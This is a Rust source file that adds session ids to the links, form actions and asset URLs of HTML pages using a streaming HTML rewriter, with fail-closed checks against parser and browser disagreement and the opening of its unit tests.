//! Adding the session id to the links of an HTML page, with a streaming HTML rewriter
//! (lol_html), not a regular expression: only real attributes of real tags are touched, never
//! text, comments or script bodies that merely look like links.

use std::borrow::Cow;
use std::cell::{Cell, RefCell};
use std::rc::Rc;
use std::sync::{Arc, Mutex, PoisonError};

use lol_html::html_content::{ContentType, TextChunk, TextType};
use lol_html::send::{Element, HtmlRewriter, Settings};
use lol_html::{HandlerResult, MemorySettings, doc_comments, doc_text, element};
use url::Url;

use crate::session::error::{Error, Result};
use crate::session::id::SessionId;
use crate::session::uri::{BaseHref, Bases, MAX_BASES, UrlRewriter, UrlStyle};

/// The elements whose URLs may get the id. `form` is matched with or without `action`: a
/// form without one submits to the page itself.
const SELECTOR: &str = "a[href], area[href], link[href], form, button[formaction], \
                        input[formaction], img[src], script[src]";

/// The namespace of HTML elements (`<base>` elsewhere, say in SVG, is no base).
const HTML_NAMESPACE: &str = "http://www.w3.org/1999/xhtml";

/// The most memory the HTML parser may use for buffering (a single tag cut across input
/// chunks). A body is handed over in one piece, so this bounds hostile input only.
pub const HTML_MEMORY_LIMIT: usize = 8 << 20;

/// HTML character references decoded in attribute values. A URL with any other reference is
/// left alone rather than guessed at.
const KNOWN_REFERENCES: &[(&str, char)] = &[
    ("amp", '&'),
    ("lt", '<'),
    ("gt", '>'),
    ("quot", '"'),
    ("apos", '\''),
];

/// Named references that HTML also decodes without a trailing `;` (its legacy list), where
/// that makes a difference in an attribute: a link holding one of them unterminated is left
/// alone, since whether the browser decodes it depends on what follows.
const LEGACY_REFERENCES: &[&str] = &[
    "AElig", "AMP", "Aacute", "Acirc", "Agrave", "Aring", "Atilde", "Auml", "COPY", "Ccedil",
    "ETH", "Eacute", "Ecirc", "Egrave", "Euml", "GT", "Iacute", "Icirc", "Igrave", "Iuml", "LT",
    "Ntilde", "Oacute", "Ocirc", "Ograve", "Oslash", "Otilde", "Ouml", "QUOT", "REG", "THORN",
    "Uacute", "Ucirc", "Ugrave", "Uuml", "Yacute", "aacute", "acirc", "acute", "aelig", "agrave",
    "amp", "aring", "atilde", "auml", "brvbar", "ccedil", "cedil", "cent", "copy", "curren", "deg",
    "divide", "eacute", "ecirc", "egrave", "eth", "euml", "frac12", "frac14", "frac34", "gt",
    "iacute", "icirc", "iexcl", "igrave", "iquest", "iuml", "laquo", "lt", "macr", "micro",
    "middot", "nbsp", "not", "ntilde", "oacute", "ocirc", "ograve", "ordf", "ordm", "oslash",
    "otilde", "ouml", "para", "plusmn", "pound", "quot", "raquo", "reg", "sect", "shy", "sup1",
    "sup2", "sup3", "szlig", "thorn", "times", "uacute", "ucirc", "ugrave", "uml", "uuml",
    "yacute", "yen", "yuml",
];

/// The value of an attribute as the browser sees it, or `None` if it holds a character
/// reference this function does not decode with certainty.
fn decode_attribute(raw: &str) -> Option<Cow<'_, str>> {
    if !raw.contains('&') {
        return Some(Cow::Borrowed(raw));
    }
    let mut out = String::with_capacity(raw.len());
    let mut rest = raw;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        rest = &rest[amp + 1..];
        if let Some(num) = rest.strip_prefix('#') {
            let (digits, radix, skip) = match num.strip_prefix(['x', 'X']) {
                Some(hex) => (hex, 16, 2),
                None => (num, 10, 1),
            };
            let len = digits
                .bytes()
                .take_while(|b| (*b as char).is_digit(radix))
                .count();
            if len == 0 {
                out.push('&');
                continue;
            }
            let c = u32::from_str_radix(&digits[..len], radix)
                .ok()
                .and_then(char::from_u32)
                // Browsers map NUL and C1 controls to other characters; do not guess.
                .filter(|&c| c != '\0' && !('\u{80}'..='\u{9f}').contains(&c))?;
            out.push(c);
            rest = &rest[skip + len..];
            rest = rest.strip_prefix(';').unwrap_or(rest);
            continue;
        }
        let len = rest.bytes().take_while(u8::is_ascii_alphanumeric).count();
        let name = &rest[..len];
        let after = &rest[len..];
        if len == 0 {
            out.push('&');
        } else if let Some(after_semicolon) = after.strip_prefix(';') {
            let (_, c) = KNOWN_REFERENCES.iter().find(|(n, _)| *n == name)?;
            out.push(*c);
            rest = after_semicolon;
        } else if !after.starts_with('=') && LEGACY_REFERENCES.contains(&name) {
            // `&copy` not followed by `=` is decoded by browsers: do not guess.
            return None;
        } else {
            out.push('&');
        }
    }
    out.push_str(rest);
    Some(Cow::Owned(out))
}

/// A URL written into an attribute: `&` becomes `&amp;` (the rewriter quotes the value and
/// escapes `"`; a serialised URL holds no `<`, `>` or `"`).
fn encode_attribute(url: &str) -> Cow<'_, str> {
    if url.contains('&') {
        Cow::Owned(url.replace('&', "&amp;"))
    } else {
        Cow::Borrowed(url)
    }
}

/// How many times `needle` (lower-case) occurs in `haystack`, ignoring ASCII case.
fn count_ignoring_case(haystack: &[u8], needle: &[u8]) -> usize {
    haystack
        .windows(needle.len())
        .filter(|w| w.eq_ignore_ascii_case(needle))
        .count()
}

/// The opening of a `<base` tag as raw bytes, whatever follows (`<base/href=…>`,
/// `<BASE\thref=…>`; a `<basefont>` is counted too, which only errs on the safe side).
const BASE_OPENING: &[u8] = b"<base";

/// Why a browser may decode `body` into other characters than this parser (UTF-8 with ASCII
/// bytes as ASCII), moving tags and quotes: a UTF-16 byte order mark (browsers then read
/// UTF-16, whatever the headers say), NUL bytes (UTF-16 without one), or ESC bytes (the mode
/// switches of ISO-2022-JP, under which ASCII bytes are read as parts of other characters).
fn misreadable_encoding(body: &[u8]) -> Option<&'static str> {
    if starts_with_utf16_bom(body) {
        Some("starts with a UTF-16 byte order mark")
    } else {
        misreadable_bytes(body)
    }
}

/// The size of a UTF-16 byte order mark.
const UTF16_BOM_SIZE: usize = 2;

fn starts_with_utf16_bom(body: &[u8]) -> bool {
    body.starts_with(&[0xfe, 0xff]) || body.starts_with(&[0xff, 0xfe])
}

/// [`misreadable_encoding`] for bytes anywhere in a body: NUL and ESC.
fn misreadable_bytes(body: &[u8]) -> Option<&'static str> {
    if body.contains(&0) {
        Some("holds NUL bytes (UTF-16 text?)")
    } else if body.contains(&0x1b) {
        Some("holds ESC bytes (ISO-2022-JP mode switches?)")
    } else {
        None
    }
}

/// Watches the text of a page for markup that this parser read as text while a browser may
/// read it as tags: a `<` followed by a letter, `/`, `!` or `?` in a CDATA section, in the
/// raw text of `<style>`, `<noscript>`, `<iframe>`, `<xmp>`, `<noembed>`, `<noframes>`, in
/// the text of `<title>` or `<textarea>`, or after `<plaintext>` — and, once the page has
/// opened `<svg` or `<math`, in scripts (a `<script>` there is an SVG element whose content
/// is markup) and comments. Whether such text is text depends on the parser's view of the
/// tree (SVG or MathML around it, scripts on or off, `<select>`), which tokenizers — a
/// browser's own preload scanner included — do not all share; a tag one of them opens there
/// can hold the rewritten links that follow inside one of its attributes
/// (`<img src='//elsewhere/?…`) or set the page's base. Scripts and comments of pages
/// without SVG or MathML are not watched: every parser reads them alike, and they routinely
/// hold markup.
#[derive(Debug, Default)]
struct TextWatch {
    /// The last character of the text node so far was a `<`.
    after_lt: bool,
    /// The raw bytes so far hold `<svg` or `<math`: scripts are watched too.
    foreign: bool,
    /// Such markup was found.
    found: bool,
}

/// The openings of the tags that start foreign content (SVG, MathML), as raw bytes.
const FOREIGN_OPENINGS: [&[u8]; 2] = [b"<svg", b"<math"];

/// The longest of [`FOREIGN_OPENINGS`].
const FOREIGN_OPENING_MAX: usize = 5;

/// Whether `bytes` hold the opening of an SVG or MathML tag, ignoring ASCII case.
fn opens_foreign_content(bytes: &[u8]) -> bool {
    FOREIGN_OPENINGS
        .iter()
        .any(|tag| count_ignoring_case(bytes, tag) > 0)
}

impl TextWatch {
    fn feed(&mut self, chunk: &TextChunk<'_>) {
        let watched = match chunk.text_type() {
            TextType::CDataSection | TextType::RawText | TextType::RCData | TextType::PlainText => {
                true
            }
            TextType::ScriptData => self.foreign,
            TextType::Data => false,
        };
        if watched {
            self.scan(chunk.as_str());
        }
        if !watched || chunk.last_in_text_node() {
            self.after_lt = false;
        }
    }

    /// A comment, watched in pages with SVG or MathML: where this parser and a browser
    /// disagree about being in foreign content, one may read `<!--` inside a `<style>` as the
    /// start of a comment and the other as text, and the comment hides from this parser a
    /// tag the browser reads.
    fn comment(&mut self, text: &str) {
        if self.foreign {
            self.scan(text);
            self.after_lt = false;
        }
    }

    fn scan(&mut self, text: &str) {
        if self.found {
            return;
        }
        for b in text.bytes() {
            if self.after_lt && (b.is_ascii_alphabetic() || matches!(b, b'/' | b'!' | b'?')) {
                self.found = true;
                return;
            }
            self.after_lt = b == b'<';
        }
    }
}

/// What the rewriter must know about the whole page before it rewrites any link.
#[derive(Debug, Default)]
struct Prescan {
    /// Every `<base href>`, in document order.
    bases: Vec<BaseHref>,
    /// How many `base` start tags the parser saw (with or without `href`, in any namespace).
    base_tags: usize,
    /// Every form's `action` (entity-decoded; `""` without one; `None` if undecidable), when
    /// asked for: a field added to one form may be submitted by another (the browser drops a
    /// nested `<form>` tag, and its fields join the outer form).
    form_actions: Vec<Option<String>>,
    /// A `<form>` tag came before the end tag of the one before it: browsers drop such a tag
    /// and put the fields that follow into the earlier form (also one closed only implicitly,
    /// `<div><form></div><form>`: a form stays open to the parser until its `</form>`).
    nested_forms: bool,
    /// Every `formaction` (entity-decoded; `None` if undecidable): a submit button anywhere in
    /// the page may submit a form (`form=` reaches across the page).
    button_actions: Vec<Option<String>>,
    /// How often the raw bytes hold `<base`, `formaction` and (forms only) `<form`, in any
    /// case: more than the parser saw means some are where a browser may see what it did not.
    raw: RawCounts,
}

/// Counts of [`Prescan::raw`], taken once per page.
#[derive(Debug, Default)]
struct RawCounts {
    bases: usize,
    button_actions: usize,
    forms: usize,
}

/// Reads what [`Prescan`] holds (forms only if `forms`). Skips the parse when the body cannot
/// hold any of it.
fn prescan(body: &[u8], forms: bool) -> Result<Prescan> {
    let raw = RawCounts {
        bases: count_ignoring_case(body, BASE_OPENING),
        button_actions: count_ignoring_case(body, b"formaction"),
        forms: if forms {
            count_ignoring_case(body, b"<form")
        } else {
            0
        },
    };
    let mut scan = Prescan {
        raw,
        ..Prescan::default()
    };
    if scan.raw.bases == 0 && scan.raw.button_actions == 0 && scan.raw.forms == 0 {
        return Ok(scan);
    }
    let bases = RefCell::new(Vec::new());
    let mut base_tags = 0;
    let mut form_actions = Vec::new();
    let mut nested_forms = false;
    let form_open = Rc::new(Cell::new(false));
    let mut button_actions = Vec::new();
    let settings = lol_html::Settings::new()
        .append_element_content_handler(element!("base", |_| {
            base_tags += 1;
            Ok(())
        }))
        .append_element_content_handler(element!("base[href]", |el| {
            bases.borrow_mut().push(BaseHref {
                href: base_href(el.get_attribute("href").as_deref()),
                inert: el.namespace_uri() != HTML_NAMESPACE,
            });
            Ok(())
        }))
        // Runs after the handler above for the same element (handlers run in the order
        // they were added).
        .append_element_content_handler(element!("template base[href]", |_| {
            if let Some(last) = bases.borrow_mut().last_mut() {
                last.inert = true;
            }
            Ok(())
        }))
        .append_element_content_handler(element!("form", |el| {
            if forms {
                let action = el.get_attribute("action").unwrap_or_default();
                form_actions.push(decode_attribute(&action).map(Cow::into_owned));
                nested_forms |= form_open.replace(true);
                let open = Rc::clone(&form_open);
                let on_end: lol_html::EndTagHandler<'static> = Box::new(move |end| {
                    // Called with another end tag when that one closes the form implicitly.
                    if end.name().eq_ignore_ascii_case("form") {
                        open.set(false);
                    }
                    Ok(())
                });
                el.on_end_tag(on_end)?;
            }
            Ok(())
        }))
        .append_element_content_handler(element!("button[formaction], input[formaction]", |el| {
            let action = el.get_attribute("formaction").unwrap_or_default();
            button_actions.push(decode_attribute(&action).map(Cow::into_owned));
            Ok(())
        }))
        .with_memory_settings(
            MemorySettings::new().with_max_allowed_memory_usage(HTML_MEMORY_LIMIT),
        );
    let mut parser = lol_html::HtmlRewriter::new(settings, |_: &[u8]| {});
    parser.write(body).map_err(html_error)?;
    parser.end().map_err(html_error)?;
    scan.bases = bases.into_inner();
    scan.base_tags = base_tags;
    scan.form_actions = form_actions;
    scan.nested_forms = nested_forms;
    scan.button_actions = button_actions;
    Ok(scan)
}

/// The `href` of a `<base>` as [`BaseHref`] keeps it: `None` if it holds a reference the
/// decoder is unsure of, or anything but ASCII (a browser that reads the page in another
/// encoding than UTF-8 — it may, when the response names none — reads other characters).
fn base_href(raw: Option<&str>) -> Option<String> {
    decode_attribute(raw.unwrap_or_default())
        .filter(|href| href.is_ascii())
        .map(Cow::into_owned)
}

/// The error for a body that is served without ids, and why.
fn refused(why: &str) -> Error {
    Error::Html {
        reason: format!("the body {why}; it is served without session ids"),
    }
}

fn html_error(e: lol_html::errors::RewritingError) -> Error {
    Error::Html {
        reason: e.to_string(),
    }
}

impl UrlRewriter {
    /// Adds `id` to the links of an HTML page: `a` and `area` `href`, `link` `href`, `form`
    /// `action`, `button` and `input` `formaction`, `img` and `script` `src` — each only if
    /// it points under the base URL, is not a skipped asset and does not carry an id already
    /// (see [`rewrite_location`](Self::rewrite_location) for the rules). `document` is the
    /// page's own URL without the id ([`document_url`](Self::document_url)).
    ///
    /// Links resolve as browsers resolve them: against the page's first `<base href>`
    /// wherever it is (links before it included), or the page's address; after the URL
    /// parser's own clean-up (surrounding whitespace and control characters, tabs and
    /// newlines, backslashes as slashes). A form without an `action`, or with an empty
    /// one, submits to the page itself, and an empty `formaction` likewise. Where the page
    /// leaves doubt about its base (a `<base>` inside `<template>`, `<select>` or SVG, which
    /// browsers read differently from one another or from this parser), a link that gets the
    /// id is written as an absolute URL, so that the id goes to the application whatever base
    /// a browser uses. Links with a `ping` outside the base get no id (the ping would be told
    /// the link's target).
    ///
    /// In query style a `GET` form under the base also gets a hidden field with the id,
    /// because browsers drop the query of a `GET` form's action — unless a submit button
    /// anywhere in the page (`formaction`) may go outside the base, or forms nest (browsers
    /// drop the inner `<form>` tag and its fields join the outer form) and one of them may, or
    /// the raw bytes hold a `<form` or a `formaction` the parser did not see as one (the field
    /// would go with it).
    ///
    /// **Fails closed.** An HTML tokenizer and a browser can disagree about what is markup
    /// (CDATA in SVG or MathML, `<noscript>` with scripts off, a browser's preload scanner),
    /// and a tag only the browser sees can set the page's base or hold the rewritten links that
    /// follow inside one of its attributes. So the page is not rewritten at all — it comes back
    /// as [`Error::Html`], to be served as it was, without ids — when its raw bytes hold a
    /// `<base` (any case) that the parser did not see as a `base` tag (in text, a comment, a
    /// script, an attribute), when text that the parser read as text holds markup (a `<`
    /// followed by a letter, `/`, `!` or `?` in CDATA, `<style>`, `<noscript>`, `<iframe>`,
    /// `<xmp>`, `<noembed>`, `<noframes>`, `<textarea>`, `<title>`, after `<plaintext>`, and in
    /// scripts and comments of a page that has `<svg` or `<math`), or when a browser may decode
    /// the bytes otherwise (a UTF-16 byte order mark, NUL or ESC bytes). Such pages are rare in
    /// applications that escape what they print; a visitor without cookies who follows a link
    /// from one starts a new session.
    ///
    /// The body is read as UTF-8 (bytes that are not pass through untouched). Everything
    /// other than the rewritten attributes is copied as it was.
    ///
    /// # Errors
    /// [`Error::Html`] if the page is refused (above), or if the parser gives up (markup it
    /// cannot parse unambiguously, or a tag beyond [`HTML_MEMORY_LIMIT`]); the caller still
    /// has the body as it was.
    pub fn rewrite_html(&self, body: &[u8], document: &Url, id: &SessionId) -> Result<Vec<u8>> {
        if let Some(why) = misreadable_encoding(body) {
            return Err(refused(why));
        }
        let query = self.url_style() == UrlStyle::Query;
        let scan = prescan(body, query)?;
        if scan.raw.bases > scan.base_tags {
            return Err(refused(
                "holds a `<base` that the HTML parser did not read as a base tag (in text, a \
                 comment, a script or an attribute), which a browser may",
            ));
        }
        let bases = Bases::new(self, document, id, &scan.bases, false);
        let goes_under_base = |action: &Option<String>| match action {
            Some(a) if a.is_empty() => self.is_under_base(document),
            Some(a) => self.always_under_base(a, &bases),
            None => false,
        };
        let hidden_field_allowed = query
            && scan.raw.forms == scan.form_actions.len()
            && scan.raw.button_actions == scan.button_actions.len()
            && (!scan.nested_forms || scan.form_actions.iter().all(goes_under_base))
            && scan.button_actions.iter().all(goes_under_base);
        let watch = Mutex::new(TextWatch {
            foreign: opens_foreign_content(body),
            ..TextWatch::default()
        });
        let mut out = Vec::with_capacity(body.len() + body.len() / 8);
        let handler = element!(SELECTOR, |el| {
            self.rewrite_element(el, &bases, document, id, hidden_field_allowed)
        });
        let settings = Settings::new_send()
            .append_element_content_handler(handler)
            .append_document_content_handler(doc_text!(|t| {
                watch.lock().unwrap_or_else(PoisonError::into_inner).feed(t);
                Ok(())
            }))
            .append_document_content_handler(doc_comments!(|c| {
                let text = c.text();
                watch
                    .lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .comment(&text);
                Ok(())
            }))
            .with_memory_settings(
                MemorySettings::new().with_max_allowed_memory_usage(HTML_MEMORY_LIMIT),
            );
        let mut rewriter = HtmlRewriter::new(settings, |chunk: &[u8]| out.extend_from_slice(chunk));
        rewriter.write(body).map_err(html_error)?;
        rewriter.end().map_err(html_error)?;
        if watch
            .into_inner()
            .unwrap_or_else(PoisonError::into_inner)
            .found
        {
            return Err(refused(
                "holds markup in text that the HTML parser read as text (CDATA, `<style>`, \
                 `<noscript>`, `<textarea>`, `<title>` …), which a browser may read as tags",
            ));
        }
        Ok(out)
    }

    /// Adds the id to the link of one element of [`SELECTOR`], if it takes one.
    fn rewrite_element(
        &self,
        el: &mut Element<'_, '_>,
        bases: &Bases,
        document: &Url,
        id: &SessionId,
        hidden_field_allowed: bool,
    ) -> HandlerResult {
        let tag = el.tag_name();
        let attr = match tag.as_str() {
            "form" => "action",
            "button" | "input" => "formaction",
            "img" | "script" => "src",
            _ => "href",
        };
        let raw = el.get_attribute(attr);
        let Some(value) = raw
            .as_deref()
            .map_or(Some(Cow::Borrowed("")), decode_attribute)
        else {
            return Ok(());
        };
        if matches!(tag.as_str(), "a" | "area") && !self.pings_stay_under_base(el, bases) {
            return Ok(());
        }
        let link = if matches!(tag.as_str(), "form" | "button" | "input") && value.is_empty() {
            // No action, or an empty one: the form goes to the page itself.
            self.rewrite_target(document, bases, id)
        } else {
            self.rewrite_link(&value, bases, id)
        };
        let Some(link) = link else {
            return Ok(());
        };
        el.set_attribute(attr, &encode_attribute(&link.text))?;
        if tag == "form" && link.with_id && hidden_field_allowed {
            self.add_hidden_id(el, id);
        }
        Ok(())
    }

    /// Whether every URL in the `ping` attribute of `el` (if any) goes under the base.
    fn pings_stay_under_base(&self, el: &Element<'_, '_>, bases: &Bases) -> bool {
        let Some(raw) = el.get_attribute("ping") else {
            return true;
        };
        match decode_attribute(&raw) {
            Some(pings) => pings
                .split_ascii_whitespace()
                .all(|ping| self.always_under_base(ping, bases)),
            None => false,
        }
    }

    /// In query style, a `GET` form (browsers drop the query of its action) gets the id as a
    /// hidden field.
    fn add_hidden_id(&self, el: &mut Element<'_, '_>, id: &SessionId) {
        let method = el.get_attribute("method").unwrap_or_default();
        let method = method.trim();
        if self.url_style() == UrlStyle::Query
            && !method.eq_ignore_ascii_case("post")
            && !method.eq_ignore_ascii_case("dialog")
        {
            el.prepend(
                &format!(
                    r#"<input type="hidden" name="{}" value="{id}">"#,
                    self.param_name()
                ),
                ContentType::Html,
            );
        }
    }
}

/// How to put the session id into the links of one HTML response: what
/// [`SessionStore::finish`](crate::session::SessionStore::finish) decided for a client
/// without the cookie ([`Finished::page`](crate::session::Finished::page)), for a body it did
/// not hold itself (a tower layer's streamed body).
///
/// [`rewrite`](Self::rewrite) takes the whole body and rewrites links exactly as
/// [`UrlRewriter::rewrite_html`] does. [`stream`](Self::stream) rewrites it chunk by chunk
/// without holding it, at the price of a rule of caution: a browser resolves links against
/// the page's first `<base href>` even when it comes after them, which a stream cannot see
/// coming. So every link that gets the id is written as an absolute URL (it then reaches the
/// application whatever base applies), each link resolves against the `<base href>` seen so
/// far (or the page's address), and in query style no form gets a hidden id field (a submit
/// button further on might send it elsewhere). A page whose `<base>` comes after links to
/// other places may see those links pointed at the application; the id never leaves it.
///
/// A stream cannot refuse a page it has partly sent, as [`rewrite`](Self::rewrite) does;
/// it stops adding ids instead, from the point where the parser finds markup in text (see
/// [`UrlRewriter::rewrite_html`]) or bytes a browser may decode otherwise: links after that
/// point are copied as they are. (A `<base>` the parser did not see needs no such care here:
/// every link with the id is absolute.)
#[derive(Clone, Debug)]
pub struct PageRewrite {
    urls: UrlRewriter,
    document: Url,
    id: SessionId,
}

impl PageRewrite {
    pub(crate) fn new(urls: UrlRewriter, document: Url, id: SessionId) -> PageRewrite {
        PageRewrite { urls, document, id }
    }

    /// The id the links get.
    pub fn id(&self) -> &SessionId {
        &self.id
    }

    /// The page's own URL, without the id.
    pub fn document(&self) -> &Url {
        &self.document
    }

    /// The whole body, rewritten ([`UrlRewriter::rewrite_html`]).
    ///
    /// # Errors
    /// As [`UrlRewriter::rewrite_html`].
    pub fn rewrite(&self, body: &[u8]) -> Result<Vec<u8>> {
        self.urls.rewrite_html(body, &self.document, &self.id)
    }

    /// A rewriter for the body in chunks (see the type's documentation for what differs).
    pub fn stream(&self) -> PageStream {
        let state = Arc::new(Mutex::new(StreamState {
            bases: Bases::new(&self.urls, &self.document, &self.id, &[], true),
            found: Vec::new(),
            watch: TextWatch::default(),
            misread: false,
            too_many_bases: false,
        }));
        let out = Arc::new(Mutex::new(Vec::new()));
        let (urls, document, id) = (self.urls.clone(), self.document.clone(), self.id);
        let base_state = Arc::clone(&state);
        let on_base = element!("base[href]", move |el| {
            let mut st = base_state.lock().unwrap_or_else(PoisonError::into_inner);
            if st.found.len() >= MAX_BASES {
                // More bases than a page has: no more ids (see `MAX_BASES`), and no more work.
                st.too_many_bases = true;
                return Ok(());
            }
            st.found.push(BaseHref {
                href: base_href(el.get_attribute("href").as_deref()),
                inert: el.namespace_uri() != HTML_NAMESPACE,
            });
            st.bases = Bases::new(&urls, &document, &id, &st.found, true);
            Ok(())
        });
        let (urls, document, id) = (self.urls.clone(), self.document.clone(), self.id);
        let template_state = Arc::clone(&state);
        let in_template = element!("template base[href]", move |_| {
            let mut st = template_state
                .lock()
                .unwrap_or_else(PoisonError::into_inner);
            if st.too_many_bases {
                return Ok(());
            }
            if let Some(last) = st.found.last_mut() {
                last.inert = true;
            }
            st.bases = Bases::new(&urls, &document, &id, &st.found, true);
            Ok(())
        });
        let text_state = Arc::clone(&state);
        let on_text = doc_text!(move |t| {
            text_state
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .watch
                .feed(t);
            Ok(())
        });
        let comment_state = Arc::clone(&state);
        let on_comment = doc_comments!(move |c| {
            let text = c.text();
            comment_state
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .watch
                .comment(&text);
            Ok(())
        });
        let (urls, document, id) = (self.urls.clone(), self.document.clone(), self.id);
        let link_state = Arc::clone(&state);
        let on_link = element!(SELECTOR, move |el| {
            let st = link_state.lock().unwrap_or_else(PoisonError::into_inner);
            if st.disarmed() {
                return Ok(());
            }
            urls.rewrite_element(el, &st.bases, &document, &id, false)
        });
        let settings = Settings::new_send()
            .append_element_content_handler(on_base)
            .append_element_content_handler(in_template)
            .append_element_content_handler(on_link)
            .append_document_content_handler(on_text)
            .append_document_content_handler(on_comment)
            .with_memory_settings(
                MemorySettings::new().with_max_allowed_memory_usage(HTML_MEMORY_LIMIT),
            );
        let sink = Arc::clone(&out);
        let sink: Sink = Box::new(move |chunk: &[u8]| {
            sink.lock()
                .unwrap_or_else(PoisonError::into_inner)
                .extend_from_slice(chunk);
        });
        let rewriter = HtmlRewriter::new(settings, sink);
        PageStream {
            rewriter,
            out,
            state,
            started: false,
            head: Vec::new(),
            passthrough: false,
            tail: Vec::new(),
        }
    }
}

/// Where a [`PageStream`]'s rewriter writes: a buffer the stream drains after each chunk.
type Sink = Box<dyn FnMut(&[u8]) + Send>;

/// What the handlers of a [`PageStream`] share.
struct StreamState {
    /// The bases of the `<base href>`s seen so far.
    bases: Bases,
    found: Vec<BaseHref>,
    /// Markup in text so far?
    watch: TextWatch,
    /// Bytes a browser may decode otherwise so far?
    misread: bool,
    /// More `<base href>`s than [`MAX_BASES`] so far?
    too_many_bases: bool,
}

impl StreamState {
    /// Whether links from here on are left alone.
    fn disarmed(&self) -> bool {
        self.watch.found || self.misread || self.too_many_bases
    }
}

/// An HTML body being rewritten chunk by chunk ([`PageRewrite::stream`]): write each chunk,
/// send on what comes back, and end.
pub struct PageStream {
    rewriter: HtmlRewriter<'static, Sink>,
    out: Arc<Mutex<Vec<u8>>>,
    state: Arc<Mutex<StreamState>>,
    /// Whether the body's first bytes have been looked at (and fed to the rewriter).
    started: bool,
    /// The body's first bytes, held until there are enough to tell a UTF-16 byte order mark.
    head: Vec<u8>,
    /// The body is UTF-16: copied as it is.
    passthrough: bool,
    /// The last bytes fed, for a `<svg` or `<math` cut across chunks.
    tail: Vec<u8>,
}

impl std::fmt::Debug for PageStream {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PageStream").finish_non_exhaustive()
    }
}

impl PageStream {
    fn drain(&self) -> Vec<u8> {
        std::mem::take(&mut *self.out.lock().unwrap_or_else(PoisonError::into_inner))
    }

    /// Feeds the next chunk of the body; returns the rewritten bytes ready so far (the parser
    /// holds back a tag cut across chunks until it is complete).
    ///
    /// # Errors
    /// [`Error::Html`] if the parser gives up (a tag beyond [`HTML_MEMORY_LIMIT`]); the
    /// stream is then unusable.
    pub fn write(&mut self, chunk: &[u8]) -> Result<Vec<u8>> {
        if self.passthrough {
            return Ok(chunk.to_vec());
        }
        if !self.started {
            // The first two bytes decide whether the body is UTF-16 (a byte order mark).
            self.head.extend_from_slice(chunk);
            if self.head.len() < UTF16_BOM_SIZE {
                return Ok(Vec::new());
            }
            self.started = true;
            let head = std::mem::take(&mut self.head);
            if starts_with_utf16_bom(&head) {
                self.passthrough = true;
                return Ok(head);
            }
            return self.feed(&head);
        }
        self.feed(chunk)
    }

    fn feed(&mut self, chunk: &[u8]) -> Result<Vec<u8>> {
        {
            let mut st = self.state.lock().unwrap_or_else(PoisonError::into_inner);
            st.misread |= misreadable_bytes(chunk).is_some();
            if !st.watch.foreign {
                // A tag opening cut across chunks: the last bytes of the one before.
                self.tail.extend_from_slice(chunk);
                st.watch.foreign = opens_foreign_content(&self.tail);
                let keep = self.tail.len().min(FOREIGN_OPENING_MAX - 1);
                self.tail.drain(..self.tail.len() - keep);
            }
        }
        self.rewriter.write(chunk).map_err(html_error)?;
        Ok(self.drain())
    }

    /// Ends the body; returns the last rewritten bytes.
    ///
    /// # Errors
    /// As [`write`](Self::write).
    pub fn end(mut self) -> Result<Vec<u8>> {
        if self.passthrough {
            return Ok(Vec::new());
        }
        let mut out = Vec::new();
        if !self.started {
            let head = std::mem::take(&mut self.head);
            out = self.feed(&head)?;
        }
        let sink = Arc::clone(&self.out);
        self.rewriter.end().map_err(html_error)?;
        out.append(&mut sink.lock().unwrap_or_else(PoisonError::into_inner));
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ID: &str = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";

    fn id() -> SessionId {
        SessionId::parse(ID).unwrap()
    }

    fn rewrite(rw: &UrlRewriter, html: &str) -> String {
        let doc = rw.document_url("/app/page", None);
        String::from_utf8(rw.rewrite_html(html.as_bytes(), &doc, &id()).unwrap()).unwrap()
    }

    fn path_rw() -> UrlRewriter {
        UrlRewriter::new("http://localhost:3000/app/").unwrap()
    }

    #[test]
    fn decodes_only_what_it_is_sure_of() {
        assert_eq!(decode_attribute("/a?x=1").as_deref(), Some("/a?x=1"));
        assert_eq!(
            decode_attribute("/a?x=1&amp;y=2").as_deref(),
            Some("/a?x=1&y=2")
        );
        assert_eq!(
            decode_attribute("/a?x=1&y=2").as_deref(),
            Some("/a?x=1&y=2")
        );
        assert_eq!(
            decode_attribute("/a?x=&#38;&#x26;&#X26").as_deref(),
            Some("/a?x=&&&")
        );
        assert_eq!(
            decode_attribute("&quot;&lt;&gt;&apos;").as_deref(),
            Some("\"<>'")
        );
        assert_eq!(
            decode_attribute("a & b &#; &").as_deref(),
            Some("a & b &#; &")
        );
        assert_eq!(
            decode_attribute("/a?copy=1&not=2").as_deref(),
            Some("/a?copy=1&not=2")
        );
        assert_eq!(
            decode_attribute("/a?x=1&notit").as_deref(),
            Some("/a?x=1&notit")
        );
        // Unknown or undecidable references: give up.
        assert_eq!(decode_attribute("/a?x=&eacute;"), None);
        assert_eq!(decode_attribute("/a?x=1&copy"), None);
        assert_eq!(decode_attribute("/a?x=&#0;"), None);
        assert_eq!(decode_attribute("/a?x=&#xD800;"), None);
        assert_eq!(decode_attribute("/a?x=&#99999999999;"), None);
    }

    #[test]
    fn rewrites_the_listed_elements() {
        let html = r#"<html><head><link rel="stylesheet" href="/app/site.css"><script src="/app/app.js"></script></head>
<body><a href="/app/a">a</a><A HREF='/app/b'>b</A><a href=/app/c>c</a>
<img src="/app/captcha"><img src="/app/logo.png"><form action="/app/post" method="post"></form>
<iframe src="/app/frame"></iframe><a name="x">no href</a></body></html>"#;
        let out = rewrite(&path_rw(), html);
        for want in [
            format!(r#"href="/app/site.css/-/{ID}""#),
            format!(r#"src="/app/app.js/-/{ID}""#),
            format!(r#"href="/app/a/-/{ID}""#),
            format!(r#"HREF="/app/b/-/{ID}""#),
            format!(r#"href="/app/c/-/{ID}""#),
            format!(r#"src="/app/captcha/-/{ID}""#),
            format!(r#"action="/app/post/-/{ID}""#),
        ] {
            assert!(out.contains(&want), "missing {want} in {out}");
        }
        assert!(out.contains(r#"<img src="/app/logo.png">"#), "{out}");
        assert!(out.contains(r#"<iframe src="/app/frame">"#), "{out}");
        assert!(out.contains(r#"<a name="x">no href</a>"#), "{out}");
    }

    #[test]
    fn leaves_text_comments_and_scripts_alone() {
